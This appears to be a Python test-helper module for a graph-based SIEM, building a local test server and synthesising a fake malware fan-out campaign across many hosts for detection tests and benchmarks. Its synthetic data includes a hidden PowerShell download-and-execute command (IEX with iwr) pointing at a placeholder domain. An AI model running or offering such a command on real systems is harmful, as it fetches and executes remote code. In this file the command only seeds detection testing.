"""Helpers shared by the browser tests and ``benchmarks/bench_web.py``.

A real uvicorn server of ``create_app`` on loopback, the Chromium launch
options, and a synthesised fan-out cluster written straight into a store and
the state database (for sizes the simulator would take minutes to reach).
"""

from __future__ import annotations

import socket
import threading
import time
from pathlib import Path
from typing import Any

from graphsiem.model import Entity, Relation, Sighting, epoch_to_iso, stable_hash

CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = [
    "--headless=new",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]


class LiveServer:
    """A uvicorn server of ``app`` in a daemon thread on a free loopback port."""

    def __init__(self, app: Any) -> None:
        import uvicorn

        # The server is handed a socket bound here, not a port number: a port
        # released and bound again later can be taken in between.
        self._socket = socket.socket()
        self._socket.bind(("127.0.0.1", 0))
        self.port = int(self._socket.getsockname()[1])
        self.url = f"http://127.0.0.1:{self.port}"
        config = uvicorn.Config(app, host="127.0.0.1", port=self.port, log_level="warning",
                                lifespan="on")
        self._server = uvicorn.Server(config)
        self._thread = threading.Thread(target=self._server.run, kwargs={"sockets": [self._socket]},
                                        name="uvicorn", daemon=True)

    def __enter__(self) -> LiveServer:
        self._thread.start()
        deadline = time.monotonic() + 30
        while not self._server.started:
            if not self._thread.is_alive() or time.monotonic() > deadline:
                raise RuntimeError("uvicorn did not start")
            time.sleep(0.02)
        return self

    def __exit__(self, *exc: object) -> None:
        self._server.should_exit = True
        self._thread.join(timeout=15)
        self._socket.close()


def analyst_key(data_dir: Path, *, role: str = "analyst") -> str:
    """Create an API key of ``role`` in ``data_dir``'s state database; returns the secret."""
    from graphsiem.api.state import StateStore

    state = StateStore(data_dir / "state.sqlite")
    try:
        return state.create_key(role=role, name=f"web-test-{role}")[1]
    finally:
        state.close()


MEMBER_TYPES = ("domain", "file", "process", "ip", "url")


def synthesise_fanout(store: Any, data_dir: Path, *, hosts: int, start: float = 1_764_000_000.0,
                      domain: str = "cdn-img-delivery.example") -> dict[str, Any]:
    """Write a fan-out campaign of ``hosts`` hosts into ``store`` and its cluster into state.

    Every host resolves the domain, downloads the file, runs the process, connects
    to the IP and requests the URL (five host edges each, so 1,000 hosts give
    5,000 edges), plus the member-to-member edges (process EXECUTED script,
    file SERVED_BY domain, url ON domain).  Returns the stored cluster dict.
    """
    from graphsiem.api.state import StateStore

    names = [f"ws-{i:04d}" for i in range(hosts)]
    sha = stable_hash("payload.png", length=64)
    command = f"powershell.exe -nop -w hidden -c \"IEX (iwr http://{domain}/logo.png)\""
    members = {
        "domain": Entity("domain", domain, domain),
        "file": Entity("file", sha, "logo.png", {"sha256": sha}),
        "process": Entity("process", stable_hash("ps", command), command),
        "script": Entity("script", stable_hash("script", command), "IEX (New-Object Net.WebClient).DownloadString(...)"),
        "ip": Entity("ip", "203.0.113.77", "203.0.113.77"),
        "url": Entity("url", f"http://{domain}/logo.png", f"http://{domain}/logo.png"),
    }
    host_relation = {"domain": "RESOLVED", "file": "DOWNLOADED", "process": "RAN",
                     "ip": "CONNECTED", "url": "REQUESTED"}
    entities = [Entity("host", n, n) for n in names] + list(members.values())
    relations: list[Relation] = []
    sightings: list[Sighting] = []
    for i, name in enumerate(names):
        ts = start + i * 0.5
        for member_type in MEMBER_TYPES:
            member = members[member_type]
            event_id = f"ev-{i}-{member_type}"
            relations.append(Relation(("host", name), host_relation[member_type], member.ref, ts,
                                      ts + 60, 1, [event_id]))
            sightings.append(Sighting(name, member.ref, ts, ts + 60))
        sightings.append(Sighting(name, members["script"].ref, ts, ts + 60))
    end = start + hosts * 0.5 + 60
    relations += [
        Relation(members["process"].ref, "EXECUTED", members["script"].ref, start, end, hosts, ["ev-x"]),
        Relation(members["file"].ref, "SERVED_BY", members["domain"].ref, start, end, hosts, ["ev-s"]),
        Relation(members["url"].ref, "ON", members["domain"].ref, start, end, hosts, ["ev-o"]),
    ]
    store.upsert_entities(entities)
    store.upsert_relations(relations)
    store.upsert_sightings(sightings)
    store.flush()
    cluster = {
        "id": stable_hash("domain", domain),
        "score": 97.3,
        "hosts": names,
        "entities": [{"type": m.type, "value": m.value} for m in members.values()],
        "first_seen": epoch_to_iso(start), "last_seen": epoch_to_iso(end),
        "first_seen_ts": start, "last_seen_ts": end,
        "explanation": {
            "summary": f"{hosts} hosts first contacted {domain} within {hosts * 0.5 / 60:.0f} minutes",
            "features": [
                {"name": "host_count", "value": hosts, "baseline": 3, "contribution": 0.41},
                {"name": "first_contact_spread_min", "value": hosts * 0.5 / 60, "baseline": 840.0,
                 "contribution": 0.33},
            ],
        },
        "evidence": [{"source": "synthetic", "event_id": r.evidence[0]} for r in relations[:50]],
        "pivot": {"type": "domain", "key": domain},
        "members": [{"type": m.type, "key": m.key, "value": m.value} for m in members.values()],
    }
    state = StateStore(data_dir / "state.sqlite")
    try:
        state.save_clusters("synthetic", [cluster])
    finally:
        state.close()
    return cluster


def process_creation(host: str, index: int, ts: str, command: str) -> dict:
    """A Sysmon event 1 as Winlogbeat 7 ships it."""
    image = command.split(" ", 1)[0]
    return {
        "@timestamp": ts,
        "winlog": {
            "channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 1,
            "computer_name": f"{host}.corp.example", "record_id": 1000 + index,
            "event_data": {
                "UtcTime": ts.replace("T", " ").rstrip("Z"),
                "ProcessGuid": f"{{00000000-0000-0000-0000-{index:012d}}}",
                "ProcessId": str(4000 + index), "Image": f"C:\\Windows\\System32\\{image}",
                "CommandLine": command, "ParentImage": "C:\\Windows\\explorer.exe",
                "ParentProcessId": "100", "ParentProcessGuid": "{00000000-0000-0000-0000-000000000001}",
                "ParentCommandLine": "C:\\Windows\\explorer.exe", "User": "CORP\\alice",
            },
        },
    }
